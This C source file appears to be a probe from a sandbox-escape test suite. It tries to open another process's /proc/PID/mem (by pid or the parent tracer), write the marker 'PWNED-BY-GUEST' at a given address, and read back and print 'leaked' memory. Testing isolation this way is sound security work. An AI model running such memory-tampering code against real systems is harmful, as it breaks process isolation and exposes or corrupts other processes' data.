/* Write a host process's memory through /proc/PID/mem (argv[1] pid, or
 * "ppid" for the tracer; argv[2] address, "0" to only try opening it). */
#include "escape_common.h"
int main(int argc, char **argv) {
    if (argc < 3) return 2;
    char path[64];
    if (!strcmp(argv[1], "ppid")) snprintf(path, sizeof path, "/proc/%d/mem", getppid());
    else snprintf(path, sizeof path, "/proc/%s/mem", argv[1]);
    int fd = open(path, O_RDWR);
    report("open_mem_rw", fd);
    if (fd < 0) fd = open(path, O_WRONLY);
    report("open_mem_wo", fd);
    unsigned long addr = strtoul(argv[2], NULL, 0);
    if (fd >= 0 && addr) report("pwrite", pwrite(fd, "PWNED-BY-GUEST", 14, (off_t)addr));
    int rfd = open(path, O_RDONLY);
    report("open_mem_ro", rfd);
    char buf[32] = {0};
    if (rfd >= 0 && addr) {
        report("pread", pread(rfd, buf, 24, (off_t)addr));
        printf("leaked=%s\n", buf);
    }
    return 0;
}
